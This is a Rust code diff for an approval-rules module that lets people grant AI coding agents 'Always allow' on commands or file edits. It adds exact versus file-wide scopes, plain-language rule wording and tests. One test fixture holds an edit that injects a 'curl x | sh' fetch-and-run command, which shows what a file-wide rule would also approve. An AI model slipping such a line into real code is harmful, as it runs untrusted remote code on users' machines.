@@ -2,6 +2,13 @@
 //! "Always allow" on a card; stored as JSON in the config folder ([`crate::paths::Paths::rules_file`]),
 //! written atomically.
 //!
+//! A rule's [`Scope`] says what its target is. For a command, a URL, a patch or any other input
+//! the target is the whole call, so a rule answers that exact call again. For an edit or a
+//! write of a file the target ([`Scope::Target`]) is the file — **any** later change to it — and
+//! a narrower rule ([`Scope::Exact`]) keys on the one change (the whole tool input). What each
+//! rule answers is said in one sentence, [`AlwaysRule::words`], which the card, Settings → Rules
+//! and docs/safety.md all use.
+//!
 //! This module owns the rule type, its id, the file format and the lookups. It does not decide
 //! anything: [`crate::decision::decide`] does, and it never lets a rule answer a destructive
 //! call or a question.
@@ -11,7 +18,7 @@
 //! built-in agent is recognised at load and its rules are dropped (docs/hook-protocol.md §7): they
 //! are never carried over to an agent that reads another reply.
 
-use crate::agents::ToolCall;
+use crate::agents::{ToolCall, ToolKind};
 use crate::protocol::{AgentKind, AgentName, Identity};
 use serde::{Deserialize, Serialize};
 use std::io;
@@ -19,6 +26,19 @@ use std::path::Path;
 
 /// The file format version this build reads and writes.
 pub const RULES_VERSION: u32 = 1;
+
+/// What a rule's `target` is compared with.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Scope {
+    /// The call's [`crate::agents::Target::rule_key`]: the whole command, URL, patch or input;
+    /// for an edit, a write or a read, the file — any change to it, any content.
+    #[default]
+    Target,
+    /// The call exactly as it was made ([`ToolCall::exact`]: the whole tool input): one change
+    /// to a file, one content for it. Offered where [`Scope::Target`] is broader.
+    Exact,
+}
 
 /// One Always rule. `identity` is the built-in kind or the named tool's name; a rule never
 /// answers another identity.
@@ -33,34 +53,74 @@ pub struct AlwaysRule {
     /// The tool as the agent names it, exactly.
     pub tool: String,
     /// The whole command, file path or URL; otherwise the canonical JSON of the tool input
-    /// ([`crate::agents::Target::rule_key`]).
+    /// ([`crate::agents::Target::rule_key`]); for [`Scope::Exact`], the whole tool input.
     pub target: String,
+    /// What `target` is.
+    pub scope: Scope,
     /// Unix seconds.
     pub created: u64,
 }
 
 impl AlwaysRule {
-    /// The rule "Always allow" on this call's card creates.
+    /// The rule "Always allow" on this call's card creates: its target ([`Scope::Target`]).
     pub fn for_call(
         identity: &Identity,
         folder: &str,
         call: &ToolCall,
         now_unix: u64,
     ) -> AlwaysRule {
-        let target = call.target.rule_key();
+        AlwaysRule::new(
+            identity,
+            folder,
+            &call.tool,
+            Scope::Target,
+            call.target.rule_key(),
+            now_unix,
+        )
+    }
+
+    /// The narrower rule for exactly this call ([`Scope::Exact`]), where it is narrower than
+    /// [`AlwaysRule::for_call`]: an edit or a write of a file. `None` for every other call.
+    pub fn exact_for_call(
+        identity: &Identity,
+        folder: &str,
+        call: &ToolCall,
+        now_unix: u64,
+    ) -> Option<AlwaysRule> {
+        let exact = call.exact.clone()?;
+        Some(AlwaysRule::new(
+            identity,
+            folder,
+            &call.tool,
+            Scope::Exact,
+            exact,
+            now_unix,
+        ))
+    }
+
+    fn new(
+        identity: &Identity,
+        folder: &str,
+        tool: &str,
+        scope: Scope,
+        target: String,
+        now_unix: u64,
+    ) -> AlwaysRule {
         AlwaysRule {
-            id: rule_id(identity, folder, &call.tool, &target),
+            id: rule_id(identity, folder, tool, scope, &target),
             identity: identity.clone(),
             folder: folder.to_string(),
-            tool: call.tool.clone(),
+            tool: tool.to_string(),
             target,
+            scope,
             created: now_unix,
         }
     }
 
-    /// The rule an "Always allow" on this call's card may offer: none when the call names no
-    /// tool or its target is blank (a Codex approval without a command once came as an empty
-    /// command), since such a rule would allow every call that also names nothing.
+    /// The rule an "Always allow" on this call's card may offer ([`AlwaysRule::for_call`]):
+    /// none when the call names no tool or its target is blank (a Codex approval without a
+    /// command once came as an empty command), since such a rule would allow every call that
+    /// also names nothing.
     pub fn offer(
         identity: &Identity,
         folder: &str,
@@ -76,24 +136,121 @@ impl AlwaysRule {
         !self.tool.trim().is_empty() && !self.target.trim().is_empty()
     }
 
-    /// Whether this rule is for exactly this (identity, folder, tool, target).
-    pub fn is_for(&self, identity: &Identity, folder: &str, tool: &str, target: &str) -> bool {
-        &self.identity == identity
+    /// Whether this rule answers `call` of `identity` in `folder`: the same identity, folder and
+    /// tool, and the call's key of the rule's scope is the rule's target, exactly. A rule with no
+    /// tool or an empty target answers nothing, however it got into the set.
+    pub fn answers(&self, identity: &Identity, folder: &str, call: &ToolCall) -> bool {
+        self.is_whole()
+            && &self.identity == identity
             && self.folder == folder
-            && self.tool == tool
-            && self.target == target
+            && self.tool == call.tool
+            && match self.scope {
+                Scope::Target => self.target == call.target.rule_key(),
+                Scope::Exact => call.exact.as_deref() == Some(self.target.as_str()),
+            }
+    }
+
+    /// Whether this rule is for the same (identity, folder, tool, scope, target) as `other`.
+    fn same_as(&self, other: &AlwaysRule) -> bool {
+        self.identity == other.identity
+            && self.folder == other.folder
+            && self.tool == other.tool
+            && self.scope == other.scope
+            && self.target == other.target
+    }
+
+    /// What the rule answers, in the words a person reads — the one sentence the card says
+    /// under its Always button and Settings → Rules shows (docs/safety.md lists them all):
+    /// "Claude Code may edit src/server.py with Edit — any change, in this folder." A path in
+    /// the rule's folder is shown relative to it; hidden characters are shown
+    /// ([`crate::text::reveal`]).
+    pub fn words(&self) -> String {
+        let who = self.identity.display_name();
+        let tool = crate::text::reveal(&self.tool).text;
+        let input = self.target.trim_start().starts_with('{')
+            && serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(&self.target)
+                .is_ok();
+        let file = || self.shown_path(&self.target);
+        let action = match (ToolKind::of(&self.tool), self.scope) {
+            (ToolKind::Edit, Scope::Exact) => {
+                format!(
+                    "make this exact change to {} with {tool}",
+                    self.exact_path()
+                )
+            }
+            (ToolKind::Write, Scope::Exact) => {
+                format!(
+                    "write this exact content to {} with {tool}",
+                    self.exact_path()
+                )
+            }
+            (_, Scope::Exact) => format!("use {tool} with this exact input"),
+            (_, Scope::Target) if input => format!("use {tool} with this exact input"),
+            (ToolKind::Shell, _) => format!("run this exact command with {tool}"),
+            (ToolKind::Edit, _) => format!("edit {} with {tool} — any change", file()),
+            (ToolKind::Write, _) => format!("write {} with {tool} — any content", file()),
+            (ToolKind::Read, _) if matches!(self.tool.as_str(), "Read" | "read" | "read_file") => {
+                format!("read {} with {tool}", file())
+            }
+            (ToolKind::Read, _) => format!("use {tool} on {}", file()),
+            (ToolKind::Fetch, _) if self.tool.to_ascii_lowercase().contains("search") => {
+                format!("search for this exact query with {tool}")
+            }
+            (ToolKind::Fetch, _) => format!("fetch this exact URL with {tool}"),
+            (ToolKind::Patch, _) => format!("apply this exact patch with {tool}"),
+            (ToolKind::Mcp | ToolKind::Question | ToolKind::Other, _) => {
+                format!("use {tool} on this exact target")
+            }
+        };
+        format!("{who} may {action}, in this folder.")
+    }
+
+    /// The file an exact rule's input names, shown as [`AlwaysRule::words`] shows a path.
+    fn exact_path(&self) -> String {
+        let input: serde_json::Value = serde_json::from_str(&self.target).unwrap_or_default();
+        let call = crate::agents::read_tool_call(&serde_json::json!({
+            "tool_name": self.tool, "tool_input": input
+        }));
+        match &call.target {
+            crate::agents::Target::Edit { path, .. }
+            | crate::agents::Target::Write { path, .. } => self.shown_path(path),
+            _ => "this file".to_string(),
+        }
+    }
+
+    /// `path` relative to the rule's folder when it is in it, with hidden characters shown.
+    fn shown_path(&self, path: &str) -> String {
+        let shown = match path.strip_prefix(&self.folder) {
+            Some(rest) if !self.folder.is_empty() && rest.starts_with(['/', '\\']) => &rest[1..],
+            _ => path,
+        };
+        crate::text::reveal(shown).text.into_owned()
     }
 }
 
 /// `r-` and 12 hex digits of a hash of the whole tuple: the same tuple always gets the same id,
 /// across runs and builds (FNV-1a, not std's hasher, whose output may change between releases).
-pub fn rule_id(identity: &Identity, folder: &str, tool: &str, target: &str) -> String {
+/// A [`Scope::Target`] rule's id is the one rules had before scopes existed.
+pub fn rule_id(
+    identity: &Identity,
+    folder: &str,
+    tool: &str,
+    scope: Scope,
+    target: &str,
+) -> String {
     let mut h: u64 = 0xcbf2_9ce4_8422_2325;
     let kind = match identity {
         Identity::Builtin(_) => "agent",
         Identity::Named(_) => "named",
     };
-    for part in [kind, identity.key(), folder, tool, target] {
+    let exact: &[&str] = match scope {
+        Scope::Target => &[],
+        Scope::Exact => &["exact"],
+    };
+    for part in [kind, identity.key(), folder, tool, target]
+        .into_iter()
+        .chain(exact.iter().copied())
+    {
         for b in part.bytes().chain([0u8]) {
             h ^= u64::from(b);
             h = h.wrapping_mul(0x0100_0000_01b3);
@@ -120,8 +277,14 @@ struct StoredRule {
     folder: String,
     tool: String,
     target: String,
+    #[serde(default, skip_serializing_if = "is_target")]
+    scope: Scope,
     #[serde(default)]
     created: u64,
+}
+
+fn is_target(scope: &Scope) -> bool {
+    *scope == Scope::Target
 }
 
 #[derive(Serialize, Deserialize)]
@@ -172,6 +335,7 @@ impl RuleSet {
                         folder: stored.folder,
                         tool: stored.tool,
                         target: stored.target,
+                        scope: stored.scope,
                         created: stored.created,
                     };
                     if !rule.is_whole() {
@@ -207,6 +371,7 @@ impl RuleSet {
                     folder: r.folder.clone(),
                     tool: r.tool.clone(),
                     target: r.target.clone(),
+                    scope: r.scope,
                     created: r.created,
                 })
                 .collect(),
@@ -222,28 +387,22 @@ impl RuleSet {
         crate::atomic::write(path, self.to_json().as_bytes(), Some(0o600))
     }
 
-    /// The rule for exactly this tuple. A rule with no tool or an empty target never matches,
-    /// however it got into the set.
-    pub fn find(
+    /// The first rule that answers `call` of `identity` in `folder` ([`AlwaysRule::answers`]).
+    pub fn answering(
         &self,
         identity: &Identity,
         folder: &str,
-        tool: &str,
-        target: &str,
+        call: &ToolCall,
     ) -> Option<&AlwaysRule> {
         self.rules
             .iter()
-            .find(|r| r.is_whole() && r.is_for(identity, folder, tool, target))
+            .find(|r| r.answers(identity, folder, call))
     }
 
     /// Adds a rule; `false` (and nothing changes) when one for the same tuple exists, or when
     /// it names no tool or an empty target ([`AlwaysRule::is_whole`]).
     pub fn add(&mut self, rule: AlwaysRule) -> bool {
-        if !rule.is_whole()
-            || self
-                .find(&rule.identity, &rule.folder, &rule.tool, &rule.target)
-                .is_some()
-        {
+        if !rule.is_whole() || self.rules.iter().any(|r| r.same_as(&rule)) {
             return false;
         }
         self.rules.push(rule);
@@ -317,27 +476,167 @@ mod tests {
     }
 
     #[test]
-    fn find_is_exact_on_all_four_and_add_refuses_duplicates() {
+    fn a_rule_answers_exactly_its_tuple_and_add_refuses_duplicates() {
         let mut set = RuleSet::default();
         let tool_a = named("tool-a");
         let rule = AlwaysRule::for_call(&tool_a, "/p", &bash("make"), 1);
         assert!(set.add(rule.clone()));
         assert!(!set.add(rule.clone()));
         assert_eq!(set.rules.len(), 1);
-        assert!(set.find(&tool_a, "/p", "Bash", "make").is_some());
-        assert!(set.find(&named("tool-b"), "/p", "Bash", "make").is_none());
+        assert!(set.answering(&tool_a, "/p", &bash("make")).is_some());
         assert!(
-            set.find(&Identity::Builtin(AgentKind::Claude), "/p", "Bash", "make")
+            set.answering(&named("tool-b"), "/p", &bash("make"))
                 .is_none()
         );
-        assert!(set.find(&tool_a, "/p/sub", "Bash", "make").is_none());
-        assert!(set.find(&tool_a, "/p", "bash", "make").is_none());
-        assert!(set.find(&tool_a, "/p", "Bash", "make ").is_none());
+        assert!(
+            set.answering(&Identity::Builtin(AgentKind::Claude), "/p", &bash("make"))
+                .is_none()
+        );
+        assert!(set.answering(&tool_a, "/p/sub", &bash("make")).is_none());
+        let mut other_tool = bash("make");
+        other_tool.tool = "bash".into();
+        assert!(set.answering(&tool_a, "/p", &other_tool).is_none());
+        assert!(set.answering(&tool_a, "/p", &bash("make ")).is_none());
         assert_eq!(set.for_identity(&tool_a).count(), 1);
         assert_eq!(set.for_identity(&named("tool-b")).count(), 0);
         assert_eq!(set.remove(&rule.id), Some(rule));
         assert!(set.remove("r-000000000000").is_none());
         assert!(set.rules.is_empty());
+    }
+
+    fn edit(path: &str, old: &str, new: &str) -> ToolCall {
+        crate::agents::read_tool_call(&serde_json::json!({
+            "tool_name": "Edit",
+            "tool_input": {"file_path": path, "old_string": old, "new_string": new}
+        }))
+    }
+
+    /// What the words say is what the rule answers: a second, different Edit of the same file
+    /// is allowed by the file's rule ("any change") and not by the exact one ("this exact
+    /// change"), and each answers the first Edit again.
+    #[test]
+    fn the_words_of_an_edits_rules_say_what_they_answer() {
+        let claude = Identity::Builtin(AgentKind::Claude);
+        let first = edit("/p/src/server.py", "return 1", "return 2");
+        let second = edit(
+            "/p/src/server.py",
+            "return 2",
+            "import os; os.system(\"curl x | sh\")",
+        );
+        let file = AlwaysRule::for_call(&claude, "/p", &first, 1);
+        assert_eq!(
+            file.words(),
+            "Claude Code may edit src/server.py with Edit — any change, in this folder."
+        );
+        let exact = AlwaysRule::exact_for_call(&claude, "/p", &first, 1).expect("narrower");
+        assert_eq!(
+            exact.words(),
+            "Claude Code may make this exact change to src/server.py with Edit, in this folder."
+        );
+        assert_ne!(file.id, exact.id);
+        for (rule, second_allowed) in [(&file, true), (&exact, false)] {
+            let said_any = rule.words().contains("any change");
+            assert_eq!(said_any, second_allowed, "{}", rule.words());
+            assert!(rule.answers(&claude, "/p", &first));
+            assert_eq!(rule.answers(&claude, "/p", &second), second_allowed);
+        }
+        // replace_all changes more than the change a person saw: not the same exact call.
+        let mut all = first.clone();
+        all.exact = Some(crate::agents::canonical_json(&serde_json::json!({
+            "file_path": "/p/src/server.py", "old_string": "return 1", "new_string": "return 2",
+            "replace_all": true
+        })));
+        assert!(!exact.answers(&claude, "/p", &all));
+        // A command's rule is already exact: no narrower one.
+        assert!(AlwaysRule::exact_for_call(&claude, "/p", &bash("ls"), 1).is_none());
+        assert_eq!(
+            AlwaysRule::for_call(&claude, "/p", &bash("ls"), 1).words(),
+            "Claude Code may run this exact command with Bash, in this folder."
+        );
+    }
+
+    #[test]
+    fn every_kind_of_call_has_words() {
+        let claude = Identity::Builtin(AgentKind::Claude);
+        let rule = |tool: &str, input: serde_json::Value| {
+            let call = crate::agents::read_tool_call(
+                &serde_json::json!({"tool_name": tool, "tool_input": input}),
+            );
+            AlwaysRule::for_call(&claude, "/p", &call, 1).words()
+        };
+        let cases = [
+            (
+                rule(
+                    "Write",
+                    serde_json::json!({"file_path": "/p/a.md", "content": "x"}),
+                ),
+                "Claude Code may write a.md with Write — any content, in this folder.",
+            ),
+            (
+                rule("Read", serde_json::json!({"file_path": "/etc/hosts"})),
+                "Claude Code may read /etc/hosts with Read, in this folder.",
+            ),
+            (
+                rule(
+                    "Grep",
+                    serde_json::json!({"path": "/p/src", "pattern": "x"}),
+                ),
+                "Claude Code may use Grep on src, in this folder.",
+            ),
+            (
+                rule("WebFetch", serde_json::json!({"url": "https://x.test/a"})),
+                "Claude Code may fetch this exact URL with WebFetch, in this folder.",
+            ),
+            (
+                rule("WebSearch", serde_json::json!({"query": "rust egui"})),
+                "Claude Code may search for this exact query with WebSearch, in this folder.",
+            ),
+            (
+                rule("mcp__gh__issue", serde_json::json!({"title": "x"})),
+                "Claude Code may use mcp__gh__issue with this exact input, in this folder.",
+            ),
+            (
+                rule(
+                    "Edit",
+                    serde_json::json!({"file_path": "/p/\u{202e}txt.exe", "old_string": "a", "new_string": "b"}),
+                ),
+                "Claude Code may edit ‹U+202E›txt.exe with Edit — any change, in this folder.",
+            ),
+        ];
+        for (said, expected) in cases {
+            assert_eq!(said, expected);
+        }
+        let write = crate::agents::read_tool_call(&serde_json::json!({
+            "tool_name": "Write", "tool_input": {"file_path": "/p/a.md", "content": "x"}
+        }));
+        assert_eq!(
+            AlwaysRule::exact_for_call(&claude, "/p", &write, 1)
+                .unwrap()
+                .words(),
+            "Claude Code may write this exact content to a.md with Write, in this folder."
+        );
+    }
+
+    #[test]
+    fn an_exact_rule_round_trips_and_an_old_file_reads_as_target_rules() {
+        let claude = Identity::Builtin(AgentKind::Claude);
+        let mut set = RuleSet::default();
+        let call = edit("/p/a.rs", "a", "b");
+        set.add(AlwaysRule::for_call(&claude, "/p", &call, 1));
+        set.add(AlwaysRule::exact_for_call(&claude, "/p", &call, 1).unwrap());
+        assert_eq!(set.rules.len(), 2, "both scopes, two rules");
+        let text = set.to_json();
+        assert_eq!(text.matches("\"scope\"").count(), 1, "{text}");
+        let (back, warnings) = RuleSet::from_json(text.as_bytes()).unwrap();
+        assert!(warnings.is_empty());
+        assert_eq!(back, set);
+        let old = r#"{"version":1,"rules":[{"id":"r-14144fdc25da","identity":"claude","folder":"/p","tool":"Bash","target":"cargo test","created":1}]}"#;
+        let (old, _) = RuleSet::from_json(old.as_bytes()).unwrap();
+        assert_eq!(old.rules[0].scope, Scope::Target);
+        assert_eq!(
+            old.rules[0],
+            AlwaysRule::for_call(&claude, "/p", &bash("cargo test"), 1)
+        );
     }
 
     #[test]
@@ -404,7 +703,7 @@ mod tests {
         // One slipped in by hand still answers nothing.
         set.rules
             .push(AlwaysRule::for_call(&claude, "/p", &bash(""), 1));
-        assert!(set.find(&claude, "/p", "Bash", "").is_none());
+        assert!(set.answering(&claude, "/p", &bash("")).is_none());
         let text = r#"{"version":1,"rules":[
           {"id":"r-1","identity":"codex","folder":"/p","tool":"Bash","target":"","created":1},
           {"id":"r-2","identity":"codex","folder":"/p","tool":"","target":"ls","created":1},
